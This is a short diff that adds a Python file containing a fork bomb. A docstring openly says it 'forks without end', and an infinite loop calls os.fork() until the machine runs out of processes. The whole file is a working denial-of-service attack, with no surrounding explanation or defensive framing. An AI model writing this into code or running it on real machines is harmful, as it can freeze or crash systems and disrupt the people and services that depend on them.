@@ -1,0 +1,5 @@
+"""It forks without end."""
+import os
+
+while True:
+    os.fork()
